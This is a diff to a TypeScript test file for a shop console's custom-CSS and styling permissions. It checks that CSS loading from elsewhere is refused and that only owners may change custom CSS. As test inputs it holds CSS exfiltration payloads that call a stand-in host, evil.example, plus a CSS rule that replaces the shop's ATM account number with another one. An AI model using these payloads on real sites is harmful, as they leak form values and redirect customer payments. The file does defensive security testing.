@@ -41,6 +41,7 @@ import {
 import { testDb } from '@/lib/server/testing/db';
 import { bearer, get, post } from './authHelpers';
 import { newStaffMember, raw, type ConsoleSession } from './consoleHelpers';
+import { LOOK_MESSAGES } from '@/lib/server/console/content/lookSave';
 import { expectError, shopIds, type ShopIds } from './helpers';
 
 let db: Db;
@@ -623,17 +624,35 @@ describe('look: logo, favicon, custom CSS, social links, page icons', () => {
     expect(shopChanges.map((c) => c.action)).toEqual(expect.arrayContaining(['look', 'icons']));
   });
 
-  test('CSS that loads from elsewhere is refused; a staff member may save the look', async () => {
-    const staff = await member('staff');
-    const { icons: _, ...body } = (await get<LookView>(lookGet, shop1(), staff.token)).body;
+  test('CSS that loads from elsewhere is refused; custom CSS is the owners’, the rest of the look staff may save', async () => {
+    const owner = await member('owner');
+    const { icons: _, ...body } = (await get<LookView>(lookGet, shop1(), owner.token)).body;
     for (const css of [
       'input[value$="1"]{background:url(https://evil.example/1)}',
       '@import "https://evil.example/x.css";',
       'a{background:u\\72l(//evil.example/x)}',
     ])
-      expect(expectError(await put(lookPut, staff, { ...body, customCss: css }), 400)).toMatch('customCss');
+      expect(expectError(await put(lookPut, owner, { ...body, customCss: css }), 400)).toMatch('customCss');
     const own = '.hero{background:url(/images/empty/cart.svg)}';
-    expect((await put<LookView>(lookPut, staff, { ...body, customCss: own })).body.customCss).toBe(own);
+    const saved = await put<LookView>(lookPut, owner, { ...body, customCss: own });
+    expect(saved.body.customCss).toBe(own);
+
+    // A staff member could restyle the shop's ATM account into another number: refused.
+    const staff = await member('staff');
+    const mine = { ...body, version: saved.body.version, customCss: own };
+    const attack =
+      '[data-testid=atm-account]{font-size:0}[data-testid=atm-account]::after{content:"99988877766655"}';
+    expect(expectError(await put(lookPut, staff, { ...mine, customCss: attack }), 403)).toBe(
+      LOOK_MESSAGES.cssOwnersOnly,
+    );
+    expect((await get<LookView>(lookGet, shop1(), staff.token)).body.customCss).toBe(own);
+    const social = [{ type: 'copyRight' as const, link: '© 小島選物' }];
+    const kept = await put<LookView>(lookPut, staff, { ...mine, socialLinks: social });
+    expect(kept.status).toBe(200);
+    expect(kept.body).toMatchObject({
+      customCss: own,
+      socialLinks: [expect.objectContaining({ link: '© 小島選物' })],
+    });
   });
 
   test('a new picture must be one uploaded, not SVG; the pictures held pass as they are', async () => {
